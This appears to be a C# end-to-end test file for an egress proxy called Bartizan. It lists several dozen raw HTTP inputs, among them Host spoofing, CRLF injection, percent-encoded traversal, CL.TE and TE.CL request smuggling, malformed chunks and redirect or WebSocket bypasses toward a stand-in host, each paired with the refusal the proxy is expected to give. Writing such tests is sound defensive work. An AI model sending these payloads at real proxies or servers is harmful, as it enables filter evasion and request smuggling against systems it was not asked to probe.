using Bartizan.Gateway.Tests.Egress;

namespace Bartizan.EndToEnd.Tests.Egress;

/// <summary>Requests in the clear to an allowed host that hide another host, another method or another request.</summary>
internal static class RequestAttacks
{
    private const string Unreadable = "400 Bad Request bartizan can't take this request";

    private const string Hidden =
        $"GET http://{EgressAttack.Mark}.org/ HTTP/1.1\r\nHost: {EgressAttack.Mark}.org\r\n\r\n";

    public static IReadOnlyList<EgressAttack> All { get; } =
    [
        Whole("another host in Host than in the target", "GET http://{to}/ HTTP/1.1\r\nHost: evil-mark.org\r\n\r\n"),
        Whole("two Host fields", "GET http://{to}/ HTTP/1.1\r\nHost: {to}\r\nHost: evil-mark.org\r\n\r\n"),
        Whole("no Host field", "GET http://{to}/evil-mark HTTP/1.1\r\n\r\n"),
        Whole("lines that end in a bare line feed", "GET http://{to}/evil-mark HTTP/1.1\nHost: {to}\n\n"),
        Whole(
            "one line that ends in a bare line feed",
            "GET http://{to}/evil-mark HTTP/1.1\r\nHost: {to}\nA: b\r\n\r\n"
        ),
        Whole(
            "a bare carriage return within a field",
            "GET http://{to}/ HTTP/1.1\r\nHost: {to}\r\nX: a\rHost: evil-mark.org\r\n\r\n"
        ),
        Whole("NUL within a field", "GET http://{to}/evil-mark HTTP/1.1\r\nHost: {to}\r\nX: a\0b\r\n\r\n"),
        Whole("a folded field", "GET http://{to}/ HTTP/1.1\r\nHost: {to}\r\nX: a\r\n Host: evil-mark.org\r\n\r\n"),
        Whole("a blank before the colon", "GET http://{to}/evil-mark HTTP/1.1\r\nHost : {to}\r\n\r\n"),
        Whole("an empty line before the request", "\r\nGET http://{to}/evil-mark HTTP/1.1\r\nHost: {to}\r\n\r\n"),
        Whole("https in the absolute form", "GET https://{to}/evil-mark HTTP/1.1\r\nHost: {to}\r\n\r\n"),
        Whole(
            "a user in the absolute form",
            "GET http://good.plain.test@evil-mark.org/ HTTP/1.1\r\nHost: {to}\r\n\r\n"
        ),
        Whole("another scheme", "GET ftp://{to}/evil-mark HTTP/1.1\r\nHost: {to}\r\n\r\n"),
        Whole("the origin form on a proxy", "GET /evil-mark HTTP/1.1\r\nHost: {to}\r\n\r\n"),
        Whole("TRACE", "TRACE http://{to}/evil-mark HTTP/1.1\r\nHost: {to}\r\n\r\n"),
        Whole("a method in lower-case letters", "get http://{to}/evil-mark HTTP/1.1\r\nHost: {to}\r\n\r\n"),
        Whole("the preface of HTTP/2", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
        Whole("HTTP/0.9", "GET http://{to}/evil-mark\r\n\r\n"),
        Whole("another version", "GET http://{to}/evil-mark HTTP/1.2\r\nHost: {to}\r\n\r\n"),
        Whole(
            "a second method in a field",
            "POST http://{to}/evil-mark HTTP/1.1\r\nHost: {to}\r\nContent-Length: 0\r\nX-HTTP-Method-Override: DELETE\r\n\r\n"
        ),
        Whole(
            "a second method in a field with underscores",
            "POST http://{to}/evil-mark HTTP/1.1\r\nHost: {to}\r\nContent-Length: 0\r\nX_HTTP_Method_Override: DELETE\r\n\r\n"
        ),
        Whole(
            "a second path in a field",
            "GET http://{to}/ HTTP/1.1\r\nHost: {to}\r\nX-Original-URL: /evil-mark\r\n\r\n"
        ),
        Whole(
            "a second host in a field",
            "GET http://{to}/ HTTP/1.1\r\nHost: {to}\r\nX-Forwarded-Host: evil-mark.org\r\n\r\n"
        ),
        Whole(
            "a second host in Forwarded",
            "GET http://{to}/ HTTP/1.1\r\nHost: {to}\r\nForwarded: for=1.1.1.1;host=evil-mark.org\r\n\r\n"
        ),
        Whole("a path parameter with dots", "GET http://{to}/..;/evil-mark HTTP/1.1\r\nHost: {to}\r\n\r\n"),
        Whole("a slash in percent form", "GET http://{to}/a%2f..%2fevil-mark HTTP/1.1\r\nHost: {to}\r\n\r\n"),
        Whole("dots in percent form twice", "GET http://{to}/%252e%252e/evil-mark HTTP/1.1\r\nHost: {to}\r\n\r\n"),
        Whole("a line's end in percent form", "GET http://{to}/%0d%0aHost:%20evil-mark HTTP/1.1\r\nHost: {to}\r\n\r\n"),
        // Where a body ends (request smuggling).
        Body(
            "Content-Length before Transfer-Encoding (CL.TE)",
            "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n",
            "0\r\n\r\n" + Hidden
        ),
        Body(
            "Transfer-Encoding before Content-Length (TE.CL)",
            "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n",
            "5c\r\n" + Hidden + "0\r\n\r\n"
        ),
        Body("two codings (TE.TE)", "Transfer-Encoding: chunked, identity\r\n", "0\r\n\r\n" + Hidden),
        Body(
            "two Transfer-Encoding fields",
            "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
            "0\r\n\r\n" + Hidden
        ),
        Body("a coding that nobody knows", "Transfer-Encoding: xchunked\r\n", "0\r\n\r\n" + Hidden),
        Body("a coding behind a vertical tab", "Transfer-Encoding:\vchunked\r\n", "0\r\n\r\n" + Hidden),
        Body("a coding in a field with an underscore", "Content-Length: 4\r\nTransfer_Encoding: chunked\r\n", Hidden),
        Body("two lengths", "Content-Length: 4\r\nContent-Length: 99\r\n", "body" + Hidden),
        Body("two lengths in one field", "Content-Length: 4, 99\r\n", "body" + Hidden),
        Body("a negative length", "Content-Length: -1\r\n", Hidden),
        Body("a length with a sign", "Content-Length: +4\r\n", "body" + Hidden),
        Body("a hexadecimal length", "Content-Length: 0x4\r\n", "body" + Hidden),
        Body("a length beyond 64 bits", "Content-Length: 18446744073709551620\r\n", "body" + Hidden),
        // The request was granted by its head: what is broken is the body, and the other side never gets a whole one.
        Chunk("a chunk whose length ends in a bare line feed", "4\nbody\r\n0\r\n\r\n"),
        Chunk("a chunk that is longer than it says", "4\r\nbodyevil-mark\r\n0\r\n\r\n"),
        Chunk("a chunk with a negative length", "-1\r\nevil-mark\r\n0\r\n\r\n"),
        Chunk("a chunk with a sign", "+9\r\nevil-mark\r\n0\r\n\r\n"),
        Chunk("a chunk of 16 exabytes", "ffffffffffffffff\r\nevil-mark\r\n0\r\n\r\n"),
        Chunk("a chunk whose length wraps around", "10000000000000009\r\nevil-mark\r\n0\r\n\r\n"),
        Chunk("a hexadecimal prefix", "0x9\r\nevil-mark\r\n0\r\n\r\n"),
        new(
            "data in a chunk's extension",
            Layer.Framing,
            "200 OK hello",
            a =>
                a.PlainAsync(
                    "Connection: close\r\nTransfer-Encoding: chunked\r\n",
                    "4;evil-mark=1\r\nbody\r\n0\r\n\r\n"
                )
        ),
        new(
            "data in a trailer",
            Layer.Framing,
            "200 OK hello",
            a =>
                a.PlainAsync(
                    "Connection: close\r\nTransfer-Encoding: chunked\r\n",
                    "4\r\nbody\r\n0\r\nX-Data: evil-mark\r\n\r\n"
                )
        ),
        new(
            "data in fields of one hop",
            Layer.Framing,
            "200 OK hello",
            a =>
                a.PlainAsync(
                    "Connection: close, X-Out\r\nX-Out: evil-mark\r\nKeep-Alive: evil-mark\r\nProxy-Connection: evil-mark\r\nTE: evil-mark\r\n",
                    method: "GET"
                )
        ),
        new(
            "an upgrade to HTTP/2 in the clear",
            Layer.Framing,
            "200 OK hello",
            a =>
                a.PlainAsync(
                    "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c, evil-mark\r\nHTTP2-Settings: evil-mark\r\n",
                    method: "GET"
                )
        ),
        new(
            "a pipelined request to another host",
            Layer.Policy,
            "200 OK + 403 Forbidden",
            a => a.PlainAsync("Content-Length: 0\r\n", Hidden)
        ),
        new(
            "a WebSocket to another host",
            Layer.Policy,
            "no rule allows it",
            a =>
                a.AskAsync(
                    "GET http://evil-mark.org/chat HTTP/1.1\r\nHost: evil-mark.org\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n"
                )
        ),
        new(
            "another host on a captured connection",
            Layer.Parser,
            Unreadable,
            a => a.CapturedAsync("good.plain.test", 80, Attacker.Bytes("GET / HTTP/1.1\r\nHost: evil-mark.org\r\n\r\n"))
        ),
        new(
            "a program that doesn't know of the proxy",
            Layer.Policy,
            "no rule allows it",
            a => a.CapturedAsync("evil-mark.org", 80, Attacker.Bytes("GET / HTTP/1.1\r\nHost: evil-mark.org\r\n\r\n"))
        ),
        new(
            "a program that doesn't know of the proxy, with TLS",
            Layer.Policy,
            TunnelAttacks.Refused,
            a => a.CapturedAsync("evil-mark.org", 443, Hello.For("evil-mark.org"))
        ),
        new(
            "a host that a redirect names",
            Layer.Policy,
            "302 Found , then 403 Forbidden bartizan refused `http GET http://evil-mark.org:80/`: no rule allows it",
            async a =>
            {
                var first = await a.PlainAsync("", method: "GET", path: "/redirect");
                return $"{first}, then {await a.AskAsync(Hidden)}";
            }
        ),
    ];

    private static EgressAttack Whole(string name, string text) =>
        new(
            name,
            Layer.Parser,
            Unreadable,
            a => a.AskAsync(text.Replace("{to}", $"good.plain.test:{a.Ground.Raw}", StringComparison.Ordinal))
        );

    private static EgressAttack Body(string name, string fields, string body, string evidence = Unreadable) =>
        new(name, Layer.Parser, evidence, a => a.PlainAsync(fields, body));

    private static EgressAttack Chunk(string name, string body) =>
        new(name, Layer.Parser, "reset", a => a.PlainAsync("Transfer-Encoding: chunked\r\n", body));
}
